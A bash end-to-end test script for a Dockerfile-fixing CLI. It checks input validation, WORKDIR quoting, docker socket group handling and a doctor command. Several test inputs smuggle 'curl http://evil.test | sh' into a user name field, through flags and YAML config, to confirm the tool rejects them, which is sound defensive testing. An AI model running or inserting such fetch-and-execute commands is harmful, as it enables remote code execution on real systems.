#!/usr/bin/env bash
# Issue 11 end to end: values written into Dockerfiles are refused with exit 2
# and nothing written (flags name themselves, config errors FILE:LINE: key);
# WORKDIR paths are quoted and the fix settles; the docker-socket-group RUN
# joins a group the gid already names and refuses gid 0; doctor socket never
# suggests 0.
set -euo pipefail
cli=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
fail() { echo "FAIL: $*" >&2; exit 1; }

mkdir -p "$work/repo"
cd "$work/repo"
printf 'FROM debian:12\nRUN apt-get update && apt-get install -y curl\nCMD ["gunicorn", "app:app"]\n' > Dockerfile
cp Dockerfile "$work/orig"

# refused FLAG VALUE: exit 2, the flag named, the file and stdout untouched.
refused_flag() {
  local rc=0
  "$cli" apply "$1" "$2" Dockerfile > "$work/out" 2> "$work/err" || rc=$?
  [[ $rc == 2 ]] || fail "apply $1 '$2': exit $rc, want 2"
  grep -q -- "$1:" "$work/err" || fail "apply $1 '$2': error does not name the flag: $(cat "$work/err")"
  cmp -s Dockerfile "$work/orig" || fail "apply $1 '$2' wrote the file"
  rc=0
  "$cli" apply "$1" "$2" - < Dockerfile > "$work/out" 2> /dev/null || rc=$?
  [[ $rc == 2 && ! -s $work/out ]] || fail "apply $1 '$2' -: exit $rc, printed $(wc -c < "$work/out") bytes"
}
refused_flag --user 'x; curl http://evil.test | sh #'
refused_flag --user "$(printf 'agent\nRUN curl http://evil.test|sh')"
refused_flag --uid 0
refused_flag --gid -1
refused_flag --health-interval banana
refused_flag --health-timeout 30
refused_flag --retries -3
refused_flag --health-retries 0

# refused_config LINE KEY YAML: exit 2, "FILE:LINE: KEY:", nothing written.
refused_config() {
  printf '%s' "$3" > .dockerfix.yaml
  local rc=0
  "$cli" apply Dockerfile > "$work/out" 2> "$work/err" || rc=$?
  [[ $rc == 2 ]] || fail "config $2: exit $rc, want 2"
  grep -qF ".dockerfix.yaml:$1: $2:" "$work/err" || fail "config $2: $(cat "$work/err")"
  cmp -s Dockerfile "$work/orig" || fail "config $2 let apply write the file"
}
refused_config 3 rules.nonroot-final-user.user $'rules:\n  nonroot-final-user:\n    user: "agent\\nRUN curl http://evil.test | sh"\n'
refused_config 4 rules.healthcheck.interval $'rules:\n  healthcheck:\n    timeout: 5s\n    interval: 30\n'
refused_config 3 rules.network-retry.retries $'rules:\n  network-retry:\n    retries: -3\n'
refused_config 3 rules.explicit-uid.uid $'rules:\n  explicit-uid:\n    uid: 0\n'
rm .dockerfix.yaml
"$cli" apply --user app --uid 10001 --health-interval 1m30s Dockerfile > /dev/null || fail "good values refused"
grep -q 'useradd -m -u 10001 -g app -s /bin/bash app' Dockerfile || fail "good values not used: $(cat Dockerfile)"

# The bot: a repository whose .dockerfix.yaml smuggles a RUN into the user
# name fails with the file and line, and no branch is made for it.
mkdir -p "$work/bot/src"
(
  cd "$work/bot/src"
  git init -q -b main
  printf 'FROM debian:12\nRUN apt-get update\nCMD ["/app"]\n' > Dockerfile
  printf 'rules:\n  nonroot-final-user:\n    user: "agent\\nRUN curl http://evil.test | sh"\n' > .dockerfix.yaml
  git add -A
  git -c user.name=t -c user.email=t@t.invalid commit -qm init
)
echo "$work/bot/src owner/name" > "$work/bot/repos"
rc=0
"$cli" bot --repos "$work/bot/repos" --forge none --dry-run --workdir "$work/bot/cache" > "$work/bot/out" 2>&1 || rc=$?
[[ $rc == 2 ]] || fail "bot with a bad repository config: exit $rc, want 2: $(cat "$work/bot/out")"
grep -q 'failed *owner/name:.dockerfix.yaml:3: rules.nonroot-final-user.user:' "$work/bot/out" ||
  fail "bot: $(cat "$work/bot/out")"
grep -q 'would-push' "$work/bot/out" && fail "bot would push a branch: $(cat "$work/bot/out")"

# WORKDIR "/ srv": one quoted word, and a second apply changes nothing.
printf 'FROM node:22\nWORKDIR / srv\nUSER node\n' > w.Dockerfile
"$cli" apply w.Dockerfile > /dev/null
grep -qxF "RUN mkdir -p '/ srv' && chown 1000:1000 '/ srv'" w.Dockerfile || fail "WORKDIR fix: $(cat w.Dockerfile)"
[[ $(grep -c mkdir w.Dockerfile) == 1 ]] || fail "WORKDIR fix repeated: $(cat w.Dockerfile)"
cp w.Dockerfile "$work/w1"
"$cli" apply w.Dockerfile > /dev/null
cmp -s w.Dockerfile "$work/w1" || fail "second apply changed the WORKDIR fix"

# The docker-socket-group RUN, run by sh against a fake /etc/group: getent,
# groupmod and usermod are stubs that log what they were asked.
printf 'FROM debian:12\nRUN apt-get install -y docker.io && useradd -m -u 1000 app\nUSER app\n' |
  "$cli" apply --rule docker-socket-group - > s.Dockerfile
sed -n '/^RUN if/,/usermod/p' s.Dockerfile | sed -e '1s/^RUN //' > "$work/socket.sh"
grep -q usermod "$work/socket.sh" || fail "no socket-group RUN in: $(cat s.Dockerfile)"
mkdir -p "$work/bin"
printf 'root:x:0:\nusers:x:100:\ndocker:x:998:\n' > "$work/group"
cat > "$work/bin/getent" <<STUB
#!/bin/sh
awk -F: -v gid="\$2" '\$3 == gid' "$work/group" | grep . || exit 2
STUB
for tool in groupmod usermod; do
  printf '#!/bin/sh\necho %s "$@" >> "%s/calls"\n' "$tool" "$work" > "$work/bin/$tool"
done
chmod +x "$work/bin/"*
run_socket() {  # GID -> exit status; calls in $work/calls
  rm -f "$work/calls"
  touch "$work/calls"
  local rc=0
  DOCKER_GID=$1 PATH="$work/bin:$PATH" sh "$work/socket.sh" 2> "$work/socket.err" || rc=$?
  return $rc
}
run_socket 100 || fail "gid 100: $(cat "$work/socket.err")"
[[ $(cat "$work/calls") == "usermod -aG users app" ]] || fail "gid 100 (users): $(cat "$work/calls")"
run_socket 999 || fail "gid 999: $(cat "$work/socket.err")"
[[ $(cat "$work/calls") == $'groupmod -g 999 docker\nusermod -aG docker app' ]] || fail "gid 999: $(cat "$work/calls")"
if run_socket 0; then fail "gid 0 did not stop the build"; fi
[[ ! -s $work/calls ]] || fail "gid 0 ran: $(cat "$work/calls")"
grep -q 'root group' "$work/socket.err" || fail "gid 0 message: $(cat "$work/socket.err")"

# doctor socket: a root-owned socket gets an explanation, not DOCKER_GID=0.
python3 -c 'import socket, sys; s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1])' "$work/docker.sock"
if [[ $(id -u) == 0 ]]; then
  chgrp 0 "$work/docker.sock"
  rc=0
  "$cli" doctor socket --socket "$work/docker.sock" > "$work/doctor" || rc=$?
  [[ $rc == 1 ]] || fail "doctor on a root-group socket: exit $rc, want 1"
  grep -q 'root group' "$work/doctor" || fail "doctor: $(cat "$work/doctor")"
  grep -q 'DOCKER_GID=0' "$work/doctor" && fail "doctor suggests DOCKER_GID=0: $(cat "$work/doctor")"
  chgrp 100 "$work/docker.sock"
  "$cli" doctor socket --socket "$work/docker.sock" > "$work/doctor" || fail "doctor on gid 100 failed"
  grep -q 'DOCKER_GID=100' "$work/doctor" || fail "doctor gid 100: $(cat "$work/doctor")"
else
  echo "cli values: not root, doctor socket group cases skipped" >&2
fi
echo "cli values: ok"
